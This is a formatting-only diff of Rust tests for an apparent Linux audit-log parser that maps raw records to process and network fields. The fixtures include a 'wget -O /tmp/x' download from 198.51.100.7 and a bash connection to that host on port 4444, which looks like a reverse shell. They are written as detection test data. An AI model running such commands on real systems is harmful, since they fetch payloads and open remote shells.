@@ -69,10 +69,14 @@ fn later_records_of_an_act_know_what_earlier_ones_said() {
 
 #[test]
 fn a_parent_that_was_seen_running_is_named() {
-    let child = ACT[0].replace("92733", "92734").replace("ppid=2101 pid=2214", "ppid=2214 pid=2300");
+    let child =
+        ACT[0].replace("92733", "92734").replace("ppid=2101 pid=2214", "ppid=2214 pid=2300");
     let (_, batch) = read(&[ACT[0], ACT[1], &child]);
     assert_eq!(value(&batch, 2, "process.parent.executable"), "/usr/bin/wget");
-    assert_eq!(value(&batch, 2, "process.parent.command_line"), "wget -O /tmp/x http://198.51.100.7/a b#");
+    assert_eq!(
+        value(&batch, 2, "process.parent.command_line"),
+        "wget -O /tmp/x http://198.51.100.7/a b#"
+    );
 }
 
 #[test]
@@ -91,9 +95,15 @@ fn every_form_of_a_record_is_read() {
     for line in [
         format!("type=SYSCALL msg=audit(1795252502.155:7): {plain}"),
         format!("node=web01 type=SYSCALL msg=audit(1795252502.155:7): {plain}"),
-        format!("<13>Nov 21 09:15:02 web01 audispd: type=SYSCALL msg=audit(1795252502.155:7): {plain}"),
-        format!("<5>Nov 21 09:15:02 web01 kernel: [   12.345678] audit: type=1300 audit(1795252502.155:7): {plain}"),
-        format!("<5>Nov 21 09:15:02 web01 kernel: audit: type=1300 audit(1795252502.155:7): {plain}"),
+        format!(
+            "<13>Nov 21 09:15:02 web01 audispd: type=SYSCALL msg=audit(1795252502.155:7): {plain}"
+        ),
+        format!(
+            "<5>Nov 21 09:15:02 web01 kernel: [   12.345678] audit: type=1300 audit(1795252502.155:7): {plain}"
+        ),
+        format!(
+            "<5>Nov 21 09:15:02 web01 kernel: audit: type=1300 audit(1795252502.155:7): {plain}"
+        ),
         format!("<5>Nov 21 09:15:02 web01 audit[7]: SYSCALL {plain}"),
     ] {
         let read = describe(line.as_str());
@@ -135,7 +145,8 @@ fn records_of_programs_read_well() {
 #[test]
 fn a_connection_names_its_end() {
     let syscall = "type=SYSCALL msg=audit(1795252502.155:9): arch=c000003e syscall=42 success=no exit=-115 pid=7 auid=1000 uid=1000 comm=\"bash\" exe=\"/usr/bin/bash\"";
-    let address = "type=SOCKADDR msg=audit(1795252502.155:9): saddr=0200115CC63364070000000000000000";
+    let address =
+        "type=SOCKADDR msg=audit(1795252502.155:9): saddr=0200115CC63364070000000000000000";
     let (normalizer, batch) = read(&[syscall, address]);
     assert_eq!(value(&batch, 1, "destination.ip"), "198.51.100.7");
     assert_eq!(value(&batch, 1, "destination.port"), "4444");
